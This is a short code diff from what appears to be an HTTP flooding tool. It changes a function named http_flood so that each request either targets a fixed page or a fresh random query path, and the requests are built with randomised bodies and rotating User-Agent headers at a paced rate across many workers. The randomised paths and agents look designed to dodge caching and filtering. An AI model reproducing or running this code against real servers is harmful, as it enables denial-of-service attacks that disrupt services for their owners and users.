@@ -29,15 +29,15 @@ async def http_flood(
     workers: int,
     post: bool,
     keep: bool,
-    random_target: bool,
+    page: str,
     seconds: float,
     seed: int,
 ) -> None:
-    """Requests at `rate` from `workers` connections, each kept or made anew."""
+    """Requests at `rate` from `workers` connections, each kept or made anew. Page "": another one each time."""
     random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
 
     def request() -> bytes:
-        path = f"/?{random.getrandbits(40):x}={random.getrandbits(40):x}" if random_target else "/"
+        path = page or f"/?{random.getrandbits(40):x}={random.getrandbits(40):x}"
         body = random.randbytes(random.randint(20, 400)).hex().encode() if post else b""
         head = f"{'POST' if post else 'GET'} {path} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(_AGENTS)}\r\nAccept: */*\r\nConnection: {'keep-alive' if keep else 'close'}\r\n"
         return (head + (f"Content-Length: {len(body)}\r\n" if post else "") + "\r\n").encode() + body
